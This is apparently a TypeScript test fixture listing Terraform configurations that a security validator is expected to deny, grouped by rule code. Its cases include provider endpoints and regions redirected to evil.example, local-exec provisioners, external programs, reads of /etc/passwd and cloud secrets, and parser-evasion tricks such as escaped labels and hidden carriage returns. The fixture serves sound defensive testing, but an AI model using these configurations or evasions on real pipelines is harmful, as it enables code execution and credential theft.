// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are Terraform code
import { type Files, json, local, resource, tf } from './code-fixture.ts';

/** Denied blocks, types and files: in the plain spelling, and in ways that evade a careless parser. */
export const deniedStructure = {
  'PRE-SYNTAX': {
    'an open brace': tf('resource "aws_s3_bucket" "b" {'),
    'bytes that are not UTF-8': { 'main.tf': Uint8Array.of(0x61, 0xff) },
    'a NUL character': tf('locals {}\n\0'),
    'a stray carriage return that hides a block in a comment': tf('# harmless\rterraform {}\n'),
    'text that shows in another order': tf('# \u202e\n'),
    'a hundred thousand parentheses': local('('.repeat(100_000)),
    'deep JSON': { 'main.tf.json': '['.repeat(100_000) },
    'a broken interpolation in JSON': json({ locals: { a: '${file(' } }),
    'a wrong escape': local('"\\x41"'),
    'a comment that never closes': tf('/* "'),
  },
  'PRE-PATH': {
    'the parent folder': { '../main.tf': '' },
    'a hidden folder': { '.terraform/providers/x': '' },
    'a plug-in folder': { 'terraform.d/plugins/x': '' },
    'a state file': { 'terraform.tfstate': '{}' },
  },
  'PRE-OVERRIDE': {
    override: { 'override.tf': '' },
    'a suffix': { 'zz_override.tf': '' },
    JSON: { 'main_override.tf.json': '{}' },
    'a folder': { 'm/x_override.tf': '' },
  },
  'PRE-DUPLICATE-KEY': {
    'two resources': { 'main.tf.json': '{"resource":{},"resource":{}}' },
    'escaped names': { 'main.tf.json': '{"locals":{"a":{"b":1,"\\u0062":2}}}' },
  },
  'PRE-BLOCK': {
    'an unknown block': tf('action "x" "y" {\n}\n'),
    experiments: tf('terraform {\n  experiments = [x]\n}\n'),
    'state encryption of OpenTofu': tf('terraform {\n  encryption {\n  }\n}\n'),
    'a missing label': tf('resource "aws_s3_bucket" {\n}\n'),
    JSON: json({ action: { x: {} } }),
    'a block in variable values': { 'a.auto.tfvars': 'provider "aws" {\n}\n' },
    'an iterator that hides each': resource(
      'for_each = fileset("a", "*")\ndynamic "tag" {\n  iterator = each\n  for_each = ["/etc/passwd"]\n  content {\n    value = file(each.value)\n  }\n}',
    ),
    'the same in JSON': json({
      resource: {
        aws_x: {
          x: {
            setting: {
              dynamic: { tag: { iterator: 'each/**/', for_each: [1], content: { v: '${each.value}' } } },
            },
          },
        },
      },
    }),
    'an argument at the top': tf('a = 1\n'),
  },
  'PRE-BACKEND': {
    s3: tf('terraform {\n  backend "s3" {\n  }\n}\n'),
    cloud: tf('terraform {\n  cloud {\n  }\n}\n'),
    JSON: json({ terraform: { backend: { http: { address: 'x' } } } }),
    'JSON arrays': json({ terraform: [{}, { backend: [{ kubernetes: {} }] }] }),
    'a label without quotes': tf('terraform {\n  backend local {}\n}\n'),
    'comments inside': tf('terraform/**/{\n  backend /*\n*/ "local" {}\n}\n'),
    'a module': { 'm/a.tf': 'terraform {\n  backend "local" {}\n}\n' },
  },
  'PRE-PROVIDER': {
    'its own namespace': tf(
      'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}\n',
    ),
    'another registry': tf(
      'terraform {\n  required_providers {\n    aws = { source = "evil.example/hashicorp/aws" }\n  }\n}\n',
    ),
    'two sources in two files': {
      'a.tf': 'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}\n',
      'b.tf': 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n}\n',
    },
    'an implied provider': resource('', 'evil_thing'),
    'a chosen provider': resource('provider = evil.x'),
    'a source that is computed': tf(
      'terraform {\n  required_providers {\n    aws = { "${"so"}urce" = "evil/aws" }\n  }\n}\n',
    ),
    JSON: json({ terraform: { required_providers: { aws: { source: 'evil/aws' } } } }),
    'a data source in a check': tf('check "c" {\n  data "evil_x" "y" {\n  }\n}\n'),
    'an import': tf('import {\n  to = evil_thing.x\n  id = "1"\n}\n'),
    'an import in JSON': json({ import: { to: 'evil_thing.x["a"]', id: '1' } }),
    'the provider of an import': tf(
      'import {\n  to = aws_s3_bucket.x\n  id = "1"\n  provider = evil.x\n}\nresource "aws_s3_bucket" "x" {\n}\n',
    ),
    'a provider block': tf('provider "evil" {\n}\n'),
  },
  'PRE-PROVIDER-ARGUMENT': {
    'the polyglot file': tf('provider "aws" {\n  shared_config_files = ["./main.tf"]\n  profile = "x"\n}\n'),
    endpoints: tf('provider "aws" {\n  endpoints {\n    sts = "http://evil.example"\n  }\n}\n'),
    'a region that is an address': tf(
      'provider "aws" {\n  region = "x@evil.example/#"\n  skip_region_validation = true\n}\n',
    ),
    'a region of the token service': tf('provider "aws" {\n  sts_region = "x@evil.example/#"\n}\n'),
    assume_role: tf('provider "aws" {\n  assume_role {\n    role_arn = "x"\n  }\n}\n'),
    'a role that is assumed by a token': tf(
      'provider "aws" {\n  assume_role_with_web_identity {\n    role_arn = "x"\n  }\n}\n',
    ),
    'a dynamic block': tf(
      'provider "aws" {\n  dynamic "endpoints" {\n    for_each = [1]\n    content {\n      s3 = "x"\n    }\n  }\n}\n',
    ),
    'JSON arrays': json({ provider: { aws: [{ region: 'x' }, { endpoints: [{ sts: 'x' }] }] } }),
    'a local name': tf(
      'terraform {\n  required_providers {\n    a = { source = "hashicorp/aws" }\n  }\n}\nprovider "a" {\n  token = "x"\n}\n',
    ),
    'another cloud': tf('provider "google" {\n  credentials = "/etc/passwd"\n}\n'),
    'a proxy of tls': tf('provider "tls" {\n  proxy {\n    url = "x"\n  }\n}\n'),
  },
  'PRE-PROVISIONER': {
    'local-exec': resource('provisioner "local-exec" {\n  command = "id"\n}'),
    'a label without quotes': resource('provisioner local-exec {\n  command = "id"\n}'),
    connection: resource('connection {\n  host = "x"\n}'),
    removed: tf(
      'removed {\n  from = aws_s3_bucket.b\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
    ),
    JSON: json({
      resource: { null_resource: { x: { provisioner: [{ 'local-exec': { command: 'id' } }] } } },
    }),
    'JSON arrays at every level': json({
      resource: [{ null_resource: [{ x: [{ provisioner: { 'local-exec': [{ command: 'id' }] } }] }] }],
    }),
    'escaped JSON': {
      'a.tf.json': '{"resource":{"null_resource":{"x":{"provi\\u0073ioner":{"local-exec":{}}}}}}',
    },
    'a heredoc before it': resource(
      'bucket = <<-EOT\n  }\n  EOT\nprovisioner "local-exec" {\n  command = "id"\n}',
    ),
    'a string with braces before it': resource('bucket = "${"}"}{"\nprovisioner "local-exec" {\n}'),
    'a module': { 'm/a.tf': 'resource "null_resource" "x" {\n  provisioner "file" {\n  }\n}\n' },
  },
  'PRE-DATA-SOURCE': {
    external: tf('data "external" "x" {\n  program = ["id"]\n}\n'),
    'remote state': tf('data "terraform_remote_state" "x" {\n  backend = "local"\n}\n'),
    http: tf('data http x {\n}\n'),
    'an escaped label': tf('data "ex\\u0074ernal" "x" {\n}\n'),
    'a data source in a check': tf('check "c" {\n  data "http" "y" {\n  }\n}\n'),
    secrets: tf('data "aws_secretsmanager_secret_version" "x" {\n}\n'),
    'an address': tf('data "aws_ip_ranges" "x" {\n  services = ["ec2"]\n  url = "http://evil.example/"\n}\n'),
    parameters: tf('data "aws_ssm_parameter" "x" {\n}\n'),
    'a function run while planning': tf('data "aws_lambda_invocation" "x" {\n}\n'),
    'keys of Azure': tf('data "azurerm_key_vault_secret" "x" {\n}\n'),
    JSON: json({ data: [{ external: { x: { program: ['id'] } } }] }),
  },
  'PRE-RESOURCE-TYPE': {
    local_file: resource('', 'local_file'),
    'sensitive file': resource('', 'local_sensitive_file'),
    manifest: resource('', 'kubernetes_manifest'),
    JSON: json({ resource: { docker_container: { x: {} } } }),
  },
  'PRE-EPHEMERAL': {
    HCL: tf('ephemeral "aws_secretsmanager_secret_version" "x" {\n}\n'),
    JSON: json({ ephemeral: { aws_ssm_parameter: { x: {} } } }),
  },
  'PRE-FILE-TYPE': {
    'a program': { 'run.exe': '' },
    'OpenTofu, which wins over .tf': { 'main.tofu': '' },
    'a mock of tests': { 'x.tfmock.hcl': '' },
    'a plug-in': { 'm/terraform-provider-aws_v5': '' },
    Terragrunt: { 'terragrunt.hcl': '' },
    'capital letters': { 'main.TF': '' },
  },
  'PRE-NETWORK-READ': { tls: tf('data "tls_certificate" "x" {\n  url = "https://10.0.0.1"\n}\n') },
  'PRE-IMPORT': {
    HCL: tf('import {\n  to = aws_s3_bucket.b\n  id = "victim"\n}\n'),
    JSON: json({ import: [{ to: 'aws_s3_bucket.b', id: 'victim' }] }),
  },
  'PRE-REMOVED': { HCL: tf('removed {\n  from = aws_s3_bucket.b\n}\n') },
  'PRE-MOVED': { HCL: tf('moved {\n  from = aws_s3_bucket.a\n  to = aws_s3_bucket.b\n}\n') },
} satisfies Record<string, Record<string, Files>>;
